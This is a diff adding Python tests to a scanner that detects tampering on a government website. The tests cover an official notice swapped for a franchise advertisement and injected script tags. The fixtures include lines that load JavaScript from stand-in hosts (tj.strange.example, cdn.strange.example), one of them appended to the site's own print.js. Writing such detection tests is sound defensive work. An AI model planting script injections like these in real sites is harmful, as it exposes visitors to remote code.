@@ -2,7 +2,13 @@
 
 from __future__ import annotations
 
-from scanner.model import Severity
+from dataclasses import replace
+
+from scanner import rules
+from scanner.model import Severity, SiteEntry
+from scanner.page import Page
+from scanner.scan.discover import site_detectors
+from scanner.site import Site, facts
 
 OWN = "https://www.ceshi.gov.cn/"
 PLAIN = "<title>测试市水利局</title><div class=nav></div><div id=main></div><p>要闻 网站标识码3701000001"
@@ -77,3 +83,61 @@ def test_a_link_farm_and_a_single_new_link(found):
     single = PLAIN + "<a href=http://www.xiehui.example/>协会</a>"
     assert found("tampering", {OWN: farm}, before={OWN: PLAIN})[0].severity is Severity.MEDIUM
     assert found("tampering", {OWN: single}, before={OWN: PLAIN})[0].severity is Severity.LOW
+
+
+NOTICE = (
+    "核准资质企业九家，不予核准三家，申请人可自公布之日起十五日内陈述意见，逾期视为放弃。"
+    "名单在局网站和政务大厅同步公布。"
+)
+ADVERTISEMENT = (
+    "奶茶加盟哪家好？小本创业首选本品牌，总部全程扶持，选址装修一站式服务，三个月回本，"
+    "加盟热线全天开通，名额有限先到先得。"
+)
+FURNITURE = "<p>主办单位：测试市水利局办公室，地址：测试市幸福路一号，联系电话工作日接听，版权所有未经许可不得转载。"
+
+
+def articles(texts):
+    return {f"{OWN}gs/2021-{number:02}.html": f"{PLAIN}<p>{text}</p>{FURNITURE}" for number, text in enumerate(texts)}
+
+
+def test_a_short_article_replaced_among_much_furniture(found):
+    others = [
+        f"第{number}批项目公示：" + text
+        for number, text in enumerate(("河道清淤三处完工", "泵站检修两座", "灌区改造开工"))
+    ]
+    before, now = articles([NOTICE, *others]), articles([ADVERTISEMENT, *others])
+    (finding,) = found("tampering", now, before=before)
+    assert (finding.rule, finding.severity) == ("tampering/text-replaced", Severity.MEDIUM)
+    assert finding.urls == (f"{OWN}gs/2021-00.html",)
+    corrected = articles([NOTICE.replace("九家", "八家").replace("十五日", "十日"), *others])
+    assert found("tampering", corrected, before=before) == []
+    continued = articles([NOTICE + ADVERTISEMENT.replace("奶茶加盟", "办理指南"), *others])
+    assert found("tampering", continued, before=before) == []
+
+
+def test_a_strange_script_where_nobody_edited_a_word(found):
+    script = "<script src=https://tj.strange.example/x.js></script>"
+    (finding,) = found("tampering", {OWN: PLAIN + script}, before={OWN: PLAIN})
+    assert finding.severity is Severity.MEDIUM
+    edited = PLAIN + f"<p>{NOTICE}</p>" + script
+    (finding,) = found("tampering", {OWN: edited}, before={OWN: PLAIN})
+    assert finding.severity is Severity.LOW
+
+
+def test_an_own_script_that_now_names_a_stranger(found, page):
+    home = PLAIN + "<script src=/js/print.js></script>"
+    url = f"{OWN}js/print.js"
+    old = "function printNotice() { window.print(); }"
+    new = old + ';var s=document.createElement("script");s.src="http://cdn.strange.example/k.js";'
+    script = {"headers": (("Content-Type", "application/javascript"),)}
+
+    def remembered(code):
+        fetched = page(code, url)
+        return facts(Page(replace(fetched.snapshot, **script), fetched.site))
+
+    before = {OWN: facts(page(home)), url: remembered(old)}
+    site = Site(entry=SiteEntry(home=OWN), pages=(facts(page(home)), remembered(new)), baseline=before)
+    (finding,) = site_detectors()["tampering"](site, rules.load("tampering"))
+    assert finding.severity is Severity.MEDIUM
+    assert set(finding.urls) == {OWN, url}
+    assert "own-script=/js/print.js" in finding.signs
